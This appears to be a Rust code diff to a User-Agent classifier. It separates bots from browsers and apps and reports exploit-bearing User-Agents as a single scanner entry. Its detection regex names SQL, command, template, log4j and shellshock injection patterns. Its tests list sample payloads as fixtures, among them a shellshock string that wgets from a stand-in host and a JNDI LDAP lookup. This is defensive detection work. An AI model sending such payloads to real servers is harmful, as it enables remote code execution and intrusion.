@@ -40,7 +40,21 @@ const COMPAT: &[&str] = &[
     "ubuntu",
     "cpu",
     "build",
+    "presto",
+    "webkit",
+    "os",
+    "unknown",
+    "en",
 ];
+
+/// The name of a bot that sends a browser's User-Agent without being one
+/// (a bare `Mozilla/5.0`, MSIE 6 claiming `Mozilla/5.0`, unbalanced
+/// parentheses) and names nothing else.
+pub(crate) const IMITATION: &str = "(browser imitation)";
+
+/// The name of every User-Agent that carries an exploit payload instead
+/// of a client's name: one scanner entry, however many payloads.
+pub(crate) const PAYLOAD: &str = "(exploit payload in User-Agent)";
 
 #[derive(Debug)]
 pub(crate) struct Heuristic {
@@ -54,7 +68,10 @@ pub(crate) struct Heuristic {
     words: Regex,
     browser_words: Regex,
     browser: Regex,
+    other_browser: Regex,
     botword: Regex,
+    url_host: Regex,
+    domain: Regex,
 }
 
 fn re(pattern: &str) -> Regex {
@@ -71,11 +88,22 @@ impl Heuristic {
             attack: re(
                 r"\$\{|jndi:|\(\) \{|<script|union(\s|\+|%20)+select|\.\./|/etc/passwd|havij|sqlmap|nikto|w3af|acunetix|netsparker|dirbuster|gobuster|wpscan|openvas|nessus|qualys|zmeu|morfeus|^hello,? world$|^linux gnu \(cow\)$",
             ),
-            payload: re(r"\$\{|jndi:|\(\) \{|<script|union(\s|\+|%20)+select|\.\./|/etc/passwd"),
+            // Injection strings (command, SQL, template, log4j, shellshock,
+            // path traversal, header splitting) sent as the User-Agent.
+            // (Terminal escapes are not: a bot may carry them in its name,
+            // and every printed name is escaped.)
+            payload: re(concat!(
+                r"\$\{|jndi:|\(\) ?\{|<script|<\?php|\.\./|/etc/passwd|/bin/(ba)?sh\b|cmd\.exe|",
+                r"union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20)+)?select|\bselect\b.{1,80}\bfrom\b|",
+                r"\b(print|md5|sleep|benchmark|eval|system|exec|passthru|phpinfo|base64_decode|concat|char|chr)\s*\(|",
+                r"waitfor\s+delay|xp_cmdshell|\becho\s+[^\s]|\bor\s+\d+\s*=\s*\d+|['\x22]\s*(or|and)\s|",
+                r"\{\{.*\}\}|%0[ad]",
+            )),
             fake_msie: re(r"^mozilla/5\.0 \(compatible; msie [1-8]\."),
             // Native apps' HTTP stacks: people using an app, not crawlers.
+            // Media players (a person listening or watching) as well.
             app: re(
-                r"^dalvik/|cfnetwork/|darwin/|^fban|fbav/|instagram|^android/|okhttp/.*android|^spotify/|^outlook-|^microsoft office/",
+                r"^dalvik/|cfnetwork/|darwin/|^fban|fbav/|instagram|^android/|okhttp/.*android|^spotify/|^outlook-|^microsoft office\b|^itunes/|^applecoremedia/|^vlc/|^nsplayer|^windows-media-player/|^quicktime|^realplayer|^stagefright/",
             ),
             library: re(
                 r"^(curl|wget|grequests|[a-z-]*http[a-z-]*client|python-requests|python-urllib|python-httpx|python/|aiohttp|httpx|go-http-client|go |java/|apache-httpclient|okhttp|axios|node-fetch|undici|node/|libwww-perl|lwp::|php/|guzzlehttp|ruby|faraday|scrapy|httpie|reqwest|colly|dart/|restsharp|postmanruntime|insomnia|winhttp|mozilla/\S+ \(windows nt [\d.]+; windows powershell|powershell|jakarta|feign|http\.rb|mechanize|libcurl|typhoeus|excon|rest-client|unirest|http_request|zend_http|wordpress/|cpp-httplib|fasthttp|hackney|finch|httpclient)",
@@ -90,11 +118,24 @@ impl Heuristic {
             browser_words: re(r"[a-z](bot|crawler|spider|fetcher|scraper)/\d"),
             // A real browser: Mozilla/1-5 or Opera with a platform comment.
             browser: re(
-                r"^(mozilla/[1-5]\.\d+|opera/\d+\.\d+) \((compatible; msie|windows|macintosh|x11|linux|iphone|ipad|ipod|android|mobile|tablet|bb10|blackberry|playbook|kaios|cros|freebsd|openbsd|symbian|smart-?tv|playstation|nintendo|xbox)",
+                r"^(mozilla/[1-5]\.\d+|opera/\d+\.\d+) ?\((compatible; msie|compatible; konqueror|compatible; dillo|windows|macintosh|x11|linux|iphone|ipad|ipod|android|mobile|tablet|bb10|blackberry|playbook|kaios|cros|freebsd|openbsd|netbsd|symbian|series ?60|smart-?tv|playstation|nintendo|xbox|os/2|meego|maemo|pda|j2me|mtk|unknown;|beos|haiku|sunos|webos|tizen|windows ce)",
             ),
+            // Browsers that do not take the `Mozilla/5.0 (platform)` shape:
+            // feature phones (MIDP, WAP, NetFront, UC, Openwave), text-mode
+            // and niche browsers, and old Opera and MSIE forms.
+            other_browser: re(concat!(
+                r"^(blackberry\d|nokia|sonyericsson|samsung-|sec-|sie-|mot-|lg-|sagem|alcatel|zte-|docomo/|j2me/|",
+                r"micromax|maxx_maui|maui browser|lava\.|links[ /(]|elinks|lynx/|w3m/|netsurf/|midori/|dillo/|",
+                r"arora/|konqueror/|msie \(msie|ie ?[4-9](\.\d+)?$|internet explorer( \d+(\.\d+)?)?$|",
+                r"opera/\d+\.\d+ ?\(|opera \d+\.\d+ ?\()|",
+                r"profile/midp|up\.browser|up\.link|netfront/|openwave|ucweb|semc-browser|opera mini/|",
+                r"\(maui/|windows mobile|konqueror/|\bpresto/",
+            )),
             botword: re(
                 r"bot|crawl|spider|spyder|fetch|scrap|archiv|index|harvest|scan|check|monitor",
             ),
+            url_host: re(r"https?://(?:www\.)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,})"),
+            domain: re(r"^(?:www\.)?[a-z0-9][a-z0-9-]*(\.[a-z0-9-]+)*\.[a-z]{2,}$"),
         }
     }
 
@@ -152,17 +193,37 @@ impl Heuristic {
             } else {
                 return None;
             }
-        } else if self.app.is_match(ua) && !self.url.is_match(ua) && !self.words.is_match(ua) {
+        } else if (self.app.is_match(ua) || self.other_browser.is_match(ua))
+            && !self.url.is_match(ua)
+            && !self.words.is_match(ua)
+        {
             return None;
         } else {
             Category::Other
         };
-        let name = if category == Category::Scanner && self.payload.is_match(ua) {
-            "(exploit payload in User-Agent)".to_string()
+        let name = if category == Category::Scanner && self.is_payload(ua) {
+            PAYLOAD.to_string()
         } else {
             self.name_of(ua)
         };
         Some(crawler(name, category, Origin::Heuristic))
+    }
+
+    /// Does the User-Agent carry an exploit payload (an injection string,
+    /// or no letter at all: `1'`, `"`, `-1`) rather than a client's name?
+    pub(crate) fn is_payload(&self, ua: &[u8]) -> bool {
+        !ua.iter().any(u8::is_ascii_alphabetic) || self.payload.is_match(ua)
+    }
+
+    /// The scanner entry every payload is reported as.
+    pub(crate) fn payload(&self) -> Crawler {
+        crawler(PAYLOAD.to_string(), Category::Scanner, Origin::Heuristic)
+    }
+
+    /// A bot that sent a browser's User-Agent in a way no browser does (a
+    /// pasted `User-Agent:` header, quotes around the value).
+    pub(crate) fn imitation(&self) -> Crawler {
+        crawler(IMITATION.to_string(), Category::Other, Origin::Heuristic)
     }
 
     /// A browser-like UA that no browser sends: MSIE 8 or older never said
@@ -216,7 +277,13 @@ impl Heuristic {
             let name = name.trim_matches(|c: char| !c.is_ascii_alphanumeric());
             (!name.is_empty()).then(|| name.to_string())
         };
-        let is_compat = |t: &str| COMPAT.contains(&t.to_ascii_lowercase().as_str());
+        // A name must read as one: a letter in it, no `rv:11.0`, no
+        // browser compatibility or platform word.
+        let is_compat = |t: &str| {
+            COMPAT.contains(&t.to_ascii_lowercase().as_str())
+                || !t.bytes().any(|b| b.is_ascii_alphabetic())
+                || t.contains(':')
+        };
         // (token, inside a comment, had a version)
         let candidates: Vec<(String, bool, bool)> = parts
             .iter()
@@ -235,8 +302,30 @@ impl Heuristic {
                     .iter()
                     .find(|(t, inside, slash)| *inside && *slash && !is_compat(t))
             })
-            .or(candidates.first())
-            .map_or_else(|| "(unnamed bot)".to_string(), |(t, _, _)| t.clone())
+            .or_else(|| {
+                // `(compatible; Dataprovider.com)`: a domain names the bot.
+                candidates.iter().find(|(t, inside, _)| {
+                    *inside && !is_compat(t) && self.domain.is_match(t.as_bytes())
+                })
+            })
+            .map(|(t, _, _)| t.clone())
+            .or_else(|| {
+                // Only a URL names it: `... Safari/537.36 (https://shrinktheweb.com)`.
+                self.url_host
+                    .captures(ua.as_bytes())
+                    .and_then(|c| c.get(1))
+                    .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
+            })
+            .or_else(|| {
+                let first = candidates.first()?;
+                // Nothing but browser words: a browser imitation.
+                Some(if is_compat(&first.0) {
+                    IMITATION.to_string()
+                } else {
+                    first.0.clone()
+                })
+            })
+            .unwrap_or_else(|| "(unnamed bot)".to_string())
     }
 }
 
@@ -281,7 +370,8 @@ mod tests {
         );
         assert_eq!(name("Scanbot"), "Scanbot");
         assert_eq!(name("Mozilla/5.0 zgrab/0.x"), "zgrab");
-        assert_eq!(name("(https://example.com)"), "(unnamed bot)");
+        assert_eq!(name("(https://example.com)"), "example.com");
+        assert_eq!(name("()"), "(unnamed bot)");
     }
 
     #[test]
@@ -370,5 +460,88 @@ mod tests {
             ),
             None
         );
+    }
+
+    #[test]
+    fn browsers_of_every_age_and_form_are_people() {
+        let h = Heuristic::new();
+        for ua in [
+            "SonyEricssonK310iv/R4DA Browser/NetFront/3.3 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Link/6.3.1.13.0",
+            "BlackBerry8300/4.2.2 Profile/MIDP-2.0 Configuration/CLDC-1.1 VendorID/107 UP.Link/6.2.3.15.0",
+            "NokiaN73-1/3.0649.0.0.1 Series60/3.0 Profile/MIDP2.0 Configuration/CLDC-1.1",
+            "iTunes/9.0.2 (Windows; N)",
+            "Mozilla/5.0 (compatible; Konqueror/3.2; Linux 2.6.2)",
+            "Links (2.1pre15; Linux 2.4.26 i686; 158x61)",
+            "ELinks/0.9.3 (textmode; Linux 2.6.9-kanotix-8 i686; 127x41)",
+            "w3m/0.5.1",
+            "Lynx/2.8.7rel.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1f",
+            "Mozilla/4.0 (PDA; PalmOS/sony/model prmr/Revision:1.1.54 (en)) NetFront/3.0",
+            "IE5",
+            "Mozilla/5.0 (OS/2; Warp 4.5; rv:31.0) Gecko/20100101 Firefox/31.0",
+            "MSIE (MSIE 6.0; X11; Linux; i686) Opera 7.23",
+            "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119 Version/11.10",
+            "Opera/9.64(Windows NT 5.1; U; en) Presto/2.1.1",
+            "Mozilla/5.0 (MeeGo; NokiaN950-00/00) AppleWebKit/534.13 (KHTML, like Gecko) NokiaBrowser/8.5.0 Mobile Safari/534.13",
+            "J2ME/UCWEB7.3.1.56/139/999",
+            "DoCoMo/2.0 SH901iC(c100;TB;W24H12)",
+            "Mozilla/4.0 (compatible; Dillo 3.0)",
+            "Microsoft Office Protocol Discovery",
+            // The Google app on Android and iOS.
+            "Mozilla/5.0 (Linux; Android 6.0.1; SM-G900V Build/MMB29M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/52.0.2743.98 Mobile Safari/537.36 GSA/6.2.34.21.arm",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0_4 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) GSA/3.2.1.25875 Mobile/11B554a Safari/8536.25",
+        ] {
+            assert_eq!(h.classify(ua.as_bytes()).map(|c| c.name), None, "{ua}");
+        }
+    }
+
+    #[test]
+    fn a_bot_is_named_by_what_names_it_not_by_browser_words() {
+        let h = Heuristic::new();
+        let name = |ua: &str| h.classify(ua.as_bytes()).unwrap().name;
+        assert_eq!(name("Mozilla/5.0"), IMITATION);
+        assert_eq!(
+            name("Mozilla/5.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 1.1.4325)"),
+            IMITATION
+        );
+        assert_eq!(name("Opera 9.6"), IMITATION);
+        assert_eq!(name("Chrome/54.0 (Windows NT 10.0)"), IMITATION);
+        assert_eq!(
+            name("Mozilla/5.0 (compatible; Dataprovider.com)"),
+            "Dataprovider.com"
+        );
+        assert_eq!(
+            name(
+                "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.79 Safari/537.36 (https://shrinktheweb.com)"
+            ),
+            "shrinktheweb.com"
+        );
+    }
+
+    #[test]
+    fn payloads_are_one_scanner_whatever_they_inject() {
+        let h = Heuristic::new();
+        for ua in [
+            "1",
+            "1\"",
+            "\"",
+            "-1'",
+            "print(md5(31337))",
+            "echo 'x'; id",
+            "() { :; }; /bin/bash -c \"wget http://x.example/a\"",
+            "' or 1=1--",
+            "${jndi:ldap://x.example/a}",
+            "1 UNION ALL SELECT NULL,NULL--",
+            "{{7*7}}",
+        ] {
+            assert!(h.is_payload(ua.as_bytes()), "{ua}");
+        }
+        for ua in [
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "Echoboxbot/1.0",
+            "curl/8.4.0",
+            "Feedbin - 1 subscribers",
+        ] {
+            assert!(!h.is_payload(ua.as_bytes()), "{ua}");
+        }
     }
 }
